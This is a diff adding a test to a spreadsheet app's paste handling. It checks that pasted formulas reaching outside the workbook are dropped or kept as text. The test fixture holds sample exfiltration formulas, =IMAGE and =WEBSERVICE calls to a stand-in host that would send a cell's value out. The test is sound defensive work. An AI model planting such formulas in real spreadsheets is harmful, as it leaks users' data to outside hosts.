@@ -102,6 +102,20 @@ test("what Excel copied as #### or 1.23E+13 is told, since its number cannot be 
   await workbook.until(async () => (await workbook.page.textContent("#reason")) === "");
 });
 
+test("a formula that reaches outside the workbook, in a hidden attribute or as text, is no formula", async () => {
+  const cell = (formula: string, shown: string) =>
+    `<td data-sheets-value='{"1":2,"2":"${shown}"}' data-sheets-formula='${formula}'>${shown}</td>`;
+  await paste({
+    html: `<table><tr>${cell('=IMAGE("http://x/" &amp; R[0]C[-1])', "a")}${cell("=1+R[0]C[2]", "b")}<td> =WEBSERVICE("http://x/")</td></tr></table>`,
+  });
+  await pastedText(1, 3);
+  const formulas = await read("formulas", 1, 3);
+  expect(formulas[0]?.slice(0, 2)).toEqual(["a", "=1+E2"]);
+  expect(await read("text", 1, 3)).toEqual([["a", "1", '=WEBSERVICE("http://x/")']]);
+  const held = await workbook.port(({ findFormulas }) => findFormulas(() => true), null);
+  expect(held.filter((each) => each.sheet === sheet).map((each) => each.formula)).toEqual(["=1+E2"]);
+});
+
 test("a copy of a German Excel is read with its own separators and day first", async () => {
   await paste({ html: copied("excel-german") });
   await pastedText(1, 3);
